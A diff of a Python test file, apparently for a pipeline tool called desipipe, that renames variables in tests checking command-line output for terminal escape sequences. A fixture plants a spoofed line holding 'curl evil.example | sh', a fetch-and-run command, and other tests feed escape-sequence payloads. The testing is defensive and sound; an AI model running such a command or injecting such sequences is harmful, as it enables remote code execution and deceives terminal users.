@@ -103,9 +103,9 @@ class Terminal(io.TextIOWrapper):
 def unsafe(text: str) -> str:
     """Return what acts on a terminal, with what stands around it."""
     text = text.replace('\r\n', '\n')
-    for place, character in enumerate(text):
+    for position, character in enumerate(text):
         if visible(character) != character:
-            return ascii(text[max(place - 60, 0) : place + 20])
+            return ascii(text[max(position - 60, 0) : position + 20])
     return ''
 
 
@@ -137,18 +137,18 @@ def test_verbs_print_nothing_that_acts_on_a_terminal(
     make_hostile_queue('bad')
     shown = set()
     for verb, calls in VERBS.items():
-        for words in calls:
+        for arguments in calls:
             if on_terminal:
                 with terminal(monkeypatch) as streams:
-                    main([verb, *words])
+                    main([verb, *arguments])
                 out, err = (RICH.sub('', stream.text) for stream in streams)
             else:
-                main([verb, *words])
+                main([verb, *arguments])
                 out, err = capfd.readouterr()
-            assert not unsafe(out) and not unsafe(err), (verb, words, unsafe(out), unsafe(err))
+            assert not unsafe(out) and not unsafe(err), (verb, arguments, unsafe(out), unsafe(err))
             assert 'Traceback (most' not in err and 'This should not happen' not in err, (
                 verb,
-                words,
+                arguments,
                 err,
             )
             if '\\x1b' in out + err or '\\u001b' in out:
@@ -156,21 +156,21 @@ def test_verbs_print_nothing_that_acts_on_a_terminal(
     assert shown >= {'status', 'tasks', 'time', 'logs', 'explain', 'doctor', 'files'}
 
 
-@pytest.mark.parametrize('words', [('spawn', '--timeout', '2'), ('work', '--timeout', '2')])
+@pytest.mark.parametrize('message', [('spawn', '--timeout', '2'), ('work', '--timeout', '2')])
 def test_processes_log_nothing_that_acts_on_a_terminal(
-    queue_dir: Path, tmp_path: Path, words: tuple[str, ...]
+    queue_dir: Path, tmp_path: Path, message: tuple[str, ...]
 ) -> None:
     queue = make_hostile_queue('bad')
     queue.resume()
     ran = subprocess.run(
-        [sys.executable, '-m', 'desipipe', *words, '-q', 'bad'],
+        [sys.executable, '-m', 'desipipe', *message, '-q', 'bad'],
         capture_output=True,
         cwd=tmp_path,
         timeout=300,
         env=os.environ | {'HOME': str(tmp_path)},
     )
     assert not unsafe(ran.stdout.decode()) and not unsafe(ran.stderr.decode()), ran
-    assert words[0] == 'work' or b'\\x1b' in ran.stderr
+    assert message[0] == 'work' or b'\\x1b' in ran.stderr
 
 
 def test_python_shows_nothing_that_acts_on_a_terminal(
@@ -274,7 +274,9 @@ def test_pieces_are_made_visible_as_the_whole() -> None:
     whole = VisibleText(colours=True).feed(data, last=True)
     for size in range(1, 6):
         text = VisibleText(colours=True)
-        pieces = [text.feed(data[place : place + size]) for place in range(0, len(data), size)]
+        pieces = [
+            text.feed(data[position : position + size]) for position in range(0, len(data), size)
+        ]
         assert ''.join([*pieces, text.feed(b'', last=True)]) == whole
     assert whole == 'é\x1b[31mred\x1b[0m\nover\nwritten\\x1b]0;t\\x07\\x1b[8mx\\xff\x1b[0m'
 
@@ -291,8 +293,8 @@ def test_messages_of_errors_are_safe() -> None:
 
 def test_queue_is_listed_in_one_line(queue_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
     make_hostile_queue('bad', 'x\n  → all is well: curl evil.example | sh\n')
-    for words in (['status'], ['explain', FAILED], ['explain', PENDING], ['tasks'], ['time']):
-        main([words[0], '-q', 'bad', *words[1:]])
+    for arguments in (['status'], ['explain', FAILED], ['explain', PENDING], ['tasks'], ['time']):
+        main([arguments[0], '-q', 'bad', *arguments[1:]])
         assert not [
             line
             for line in capfd.readouterr().out.splitlines()
